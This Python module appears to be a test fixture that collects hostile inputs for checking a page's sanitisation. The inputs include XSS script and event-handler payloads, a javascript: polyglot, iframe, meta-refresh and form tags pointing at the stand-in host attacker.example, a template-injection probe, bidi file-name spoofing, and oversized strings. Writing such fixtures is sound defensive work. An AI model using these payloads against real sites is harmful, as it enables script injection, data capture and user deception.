"""Texts that would act on a careless page, each with its name: what authors send, and what they call themselves."""

from typing import Final

FLAG: Final = "window.__acted = true"
FAR: Final = "https://attacker.example"

TEXTS: Final[dict[str, str]] = {
    "script": f"<script>{FLAG}</script><script src={FAR}/a.js></script>",
    "svg": f"<svg onload={FLAG}><script>{FLAG}</script><animate onbegin={FLAG} attributeName=x dur=1s></svg>",
    "handlers": f"<img src={FAR}/p.png onerror={FLAG}><body onload={FLAG}><input autofocus onfocus={FLAG}>",
    "attribute": f'" onmouseover="{FLAG}" autofocus onfocus="{FLAG}" x="',
    "link": f"javascript:{FLAG}//%0Aalert(1) https://attacker.example/?q=<a href='javascript:{FLAG}'>free</a>",
    "style": f"</style><style>body{{display:none;background:url({FAR}/b.png)}}</style><link rel=stylesheet href={FAR}>",
    "frame": f"<iframe srcdoc='<script>parent.{FLAG}</script>'></iframe><object data={FAR}></object><embed src={FAR}>",
    "meta": f"<meta http-equiv=refresh content='0;url={FAR}'><base href={FAR}><form action={FAR}><button>Go",
    "closing": "</bdi></span></p></div></li></ol></main></body></html><h1>Signed out</h1>",
    "template": "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}${7*7}#{7*7}",
    "bidi": "refund \u202egnp.exe\u202c \u2066\u2067hidden\u2069\u2069 \u200fabc\u200e \u061cend",
    "zalgo": "".join(letter + "\u0301\u0348\u0336\u035c\u0489" * 60 for letter in "zalgo comes"),
    "long": "verylongwordwithoutanybreak" * 741,
    "lines": "line\n" * 3900,
    "controls": "".join(chr(code) for code in range(1, 32)) + "\x7f\x80\x9f\ufeff\u2028\u2029\ufff9\U000e0041",
    "polyglot": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{FLAG} )//%0D%0A"
    f"</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={FLAG}//>",
    "empty_looking": "\u200b\u2800\u3164\u115f" * 20,
}
# All that is markup, one after the other; what would end a page comes last.
TEXTS["together"] = (
    " ".join(text for text in TEXTS.values() if "<" in text and "</html>" not in text) + TEXTS["closing"]
)
NAMES: Final[dict[str, str]] = {
    "script": f"<script>{FLAG}</script>",
    "image": f"<img src=x onerror={FLAG}>",
    "quotes": f"\"'><svg/onload={FLAG}>",
    "bidi": "admin\u202e nimda \u2066",
    "path": "../../accounts?x=1#y",
    "polyglot": "shell.php%00.jpg<b>",
    "zalgo": "n" + "\u0336\u0489\u034f" * 80,
    "wide": "W" * 256,
}
